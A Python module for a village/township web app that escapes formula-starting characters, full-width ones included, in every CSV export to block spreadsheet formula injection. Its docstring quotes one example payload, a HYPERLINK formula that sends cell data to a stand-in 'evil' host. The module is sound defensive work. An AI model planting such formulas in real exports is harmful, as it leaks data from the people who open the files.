"""Every CSV file the product writes goes through here, so every cell is made safe the same way.

Spreadsheet programs run a cell as a formula when its text starts with ``=``, ``+``, ``-`` or ``@``
(OWASP "CSV injection"): a villager's ``=HYPERLINK("http://evil/?"&A1)`` in a village name or a
suggestion's text would run on a clerk's computer when the export is opened. Following OWASP, a
text cell that starts with one of those characters, a tab, a carriage return (or, as ASVS adds, a
line feed or NUL) gets a leading single quote, which makes the spreadsheet read it as text. The
full-width forms ``＝＋－＠`` are escaped too: Chinese input methods type them, and Excel and WPS
in Chinese and Japanese settings accept a formula typed with them. So is a cell whose first
character after leading spaces is one of them, since importers may trim spaces. Numbers the
product writes stay numbers. Times are the township's wall-clock time, to the second.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import UTC, date, datetime, tzinfo
from decimal import Decimal

from fastapi.responses import Response

# Excel needs the byte order mark to read UTF-8 (Chinese) instead of the local code page.
BOM = "\ufeff"
FORMULA_STARTS = frozenset("=+-@\t\r\n\0＝＋－＠")
TEXT_MARKER = "'"


def safe_text(text: str) -> str:
    """``text`` as a spreadsheet shows it as text, never runs it as a formula."""
    if text[:1] in FORMULA_STARTS or text.lstrip()[:1] in FORMULA_STARTS:
        return TEXT_MARKER + text
    return text


def csv_cell(value: object, zone: tzinfo | None = None) -> object:
    """One cell: numbers as they are, None empty, a time as ``2026-12-08 09:30:05`` in ``zone``
    (ISO 8601 with its offset when no zone is given), a date as ``2026-12-08``, anything else as
    safe text."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, datetime):
        if zone is None:
            return value.isoformat()
        aware = value if value.tzinfo is not None else value.replace(tzinfo=UTC)
        return aware.astimezone(zone).strftime("%Y-%m-%d %H:%M:%S")
    if isinstance(value, date):
        return value.isoformat()
    return safe_text(str(value))


def csv_text(rows: Iterable[Sequence[object]], zone: tzinfo | None = None) -> str:
    """The rows as CSV text (with the BOM), every cell through ``csv_cell``."""
    buffer = io.StringIO()
    buffer.write(BOM)
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow([csv_cell(v, zone) for v in row])
    return buffer.getvalue()


def csv_response(rows: Iterable[Sequence[object]], filename: str, zone: tzinfo | None = None) -> Response:
    """A CSV download (UTF-8 with BOM so spreadsheet software shows Chinese), times in ``zone``."""
    return Response(
        csv_text(rows, zone).encode("utf-8"),
        media_type="text/csv; charset=utf-8",
        headers={"Content-Disposition": f'attachment; filename="{filename}"'},
    )
